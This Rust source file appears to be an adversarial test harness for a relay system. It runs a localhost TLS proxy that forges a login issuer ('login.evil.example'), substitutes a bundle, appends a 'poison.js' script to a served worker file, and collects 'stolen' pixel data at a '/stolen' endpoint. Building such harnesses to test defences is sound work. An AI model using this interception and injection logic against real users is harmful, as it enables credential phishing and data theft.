//! The door: TLS, requests that are passed on or answered otherwise, and connections that go to the hub.

use std::path::PathBuf;
use std::sync::Arc;

use carrier::{ClientTls, accept, accept_key, client_tls, dial};
use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use serde_json::json;
use tests::demo::Authority;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::server::TlsStream;
use tokio_rustls::{TlsAcceptor, TlsConnector, rustls};

use crate::attack::Attack;
use crate::hub::{Handle, did};
use crate::request::Request;

/// Where clients come in.
pub(crate) struct Listener {
    tcp: TcpListener,
    tls: TlsAcceptor,
}

/// What happens to them.
#[derive(Clone)]
pub(crate) struct Front {
    pub(crate) attack: Attack,
    pub(crate) behind: String,
    pub(crate) ca: PathBuf,
    pub(crate) bundle: Option<String>,
    pub(crate) hub: Handle,
}

/// This port of this machine, with this certificate; 0 is a free one.
pub(crate) async fn listen(files: &Authority, port: u16) -> Listener {
    let certificate = CertificateDer::from_pem_file(&files.certificate).expect("a certificate");
    let key = PrivateKeyDer::from_pem_file(&files.key).expect("a key");
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])
        .expect("ring has TLS 1.3")
        .with_no_client_auth()
        .with_single_cert(vec![certificate], key)
        .expect("they go together");
    Listener {
        tcp: TcpListener::bind(("127.0.0.1", port))
            .await
            .expect("a free port"),
        tls: TlsAcceptor::from(Arc::new(config)),
    }
}

impl Listener {
    /// Its address for clients.
    pub(crate) fn url(&self) -> String {
        let address = self.tcp.local_addr().expect("it is bound");
        format!("https://localhost:{}", address.port())
    }
}

impl Front {
    /// Serves everybody who comes.
    pub(crate) async fn serve(self, listener: Listener) {
        while let Ok((stream, _)) = listener.tcp.accept().await {
            let (front, tls) = (self.clone(), listener.tls.clone());
            tokio::spawn(async move {
                if let Ok(stream) = tls.accept(stream).await {
                    front.admit(stream).await;
                }
            });
        }
    }

    async fn admit(&self, mut stream: TlsStream<TcpStream>) {
        let Some(request) = Request::read(&mut stream).await else {
            return;
        };
        self.hub.write_down(request.head.as_bytes());
        self.hub.write_down(&request.body);
        let upgrade = request.header("upgrade").unwrap_or_default();
        if upgrade.eq_ignore_ascii_case("websocket") {
            return self.connect(stream, &request).await;
        }
        let path = request.path();
        if let Some(body) = self.lie(path) {
            return answer(&mut stream, "application/json", &body).await;
        }
        match self.attack {
            Attack::Origin if path == STOLEN => take(&mut stream, &request).await,
            Attack::Origin if path.starts_with("/assets/worker-") => {
                self.poison(&mut stream, &request.head).await;
            }
            _ => self.pass_on(stream, &request).await,
        }
    }

    /// What is answered instead of the real relay's word.
    fn lie(&self, path: &str) -> Option<String> {
        let lie = match self.attack {
            Attack::OtherIssuer if path == "/api/v1/sign-in" => json!({
                "issuer": "https://login.evil.example", "protocol": {"min": 1, "max": 1},
                "helper_client": "handrail-helper", "sharer_client": "handrail-sharer",
                "console_client": "handrail-console", "scope": "openid profile",
            }),
            Attack::OtherBundle if path.starts_with("/api/v1/bundle") => {
                json!({"bundle": self.bundle.as_deref()?.trim()})
            }
            _ => return None,
        };
        did(self.attack);
        Some(lie.to_string())
    }

    /// What was written down goes to the real relay, and nothing after it.
    async fn pass_on(&self, mut stream: TlsStream<TcpStream>, request: &Request) {
        let mut onward = self.ask(&request.head, "connection:").await;
        // A relay that refuses a request need not read all of it.
        let _ = onward.write_all(&request.body).await;
        // Either side may close first.
        let _ = tokio::io::copy(&mut onward, &mut stream).await;
        let _ = stream.shutdown().await;
    }

    /// The code of the session's worker, with our own behind it, under the headers of the real one.
    async fn poison(&self, stream: &mut TlsStream<TcpStream>, head: &str) {
        let plain = head.replace("br", "identity");
        let mut onward = self.ask(&plain, "connection:").await;
        let mut all = vec![];
        // A relay that closes without a word at the end of TLS has answered all the same.
        let _ = onward.read_to_end(&mut all).await;
        let all = String::from_utf8_lossy(&all).into_owned();
        let (head, code) = all.split_once("\r\n\r\n").expect("an answer");
        let head: String = head
            .lines()
            .filter(|line| !line.to_lowercase().starts_with("content-length:"))
            .map(|line| format!("{line}\r\n"))
            .collect();
        let code = format!("{code}\n{POISON}");
        let answer = format!("{head}content-length: {}\r\n\r\n{code}", code.len());
        // A browser that is gone needs no code.
        let _ = stream.write_all(answer.as_bytes()).await;
        let _ = stream.shutdown().await;
    }

    /// Sends a request to the real relay, without the headers of this name.
    async fn ask(&self, head: &str, without: &str) -> tokio_rustls::client::TlsStream<TcpStream> {
        let address = self.behind.trim_start_matches("https://");
        let onward = TcpStream::connect(address).await;
        let name = ServerName::try_from("localhost").expect("a name");
        let tls = TlsConnector::from(self.tls());
        let onward = tls.connect(name, onward.expect("the relay answers")).await;
        let mut onward = onward.expect("TLS with the relay");
        let head: String = head
            .lines()
            .filter(|line| !line.is_empty() && !line.to_lowercase().starts_with(without))
            .map(|line| format!("{line}\r\n"))
            .collect();
        let head = format!("{head}connection: close\r\n\r\n");
        let written = onward.write_all(head.as_bytes()).await;
        written.expect("the relay reads");
        onward
    }

    async fn connect(&self, mut stream: TlsStream<TcpStream>, request: &Request) {
        let key = request.header("sec-websocket-key").expect("a key");
        let answer = format!(
            "HTTP/1.1 101 Switching Protocols\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-accept: {}\r\n\r\n",
            accept_key(key.as_bytes())
        );
        stream
            .write_all(answer.as_bytes())
            .await
            .expect("the client reads");
        let client = accept(stream).await;
        let relay = dial(&self.behind, "/api/v1/connect", &self.tls()).await;
        self.hub
            .join(client, relay.expect("the relay answers"))
            .await;
    }

    fn tls(&self) -> ClientTls {
        client_tls(Some(&self.ca)).expect("the authority is readable")
    }
}

/// What the poisoned page sends home.
async fn take(stream: &mut TlsStream<TcpStream>, request: &Request) {
    let pixels = &request.body;
    let colours: std::collections::BTreeSet<&[u8]> = pixels.chunks(4).collect();
    let stolen = json!({"event": "stolen", "bytes": pixels.len(), "colours": colours.len()});
    println!("{stolen}");
    answer(stream, "text/plain", "").await;
}

async fn answer(stream: &mut TlsStream<TcpStream>, kind: &str, body: &str) {
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    // A client that is gone needs no answer.
    let _ = stream.write_all(answer.as_bytes()).await;
    let _ = stream.shutdown().await;
}

/// Where the poisoned page sends what it sees.
const STOLEN: &str = "/stolen";

/// What runs in the helper's page.
const POISON: &str = include_str!("poison.js");
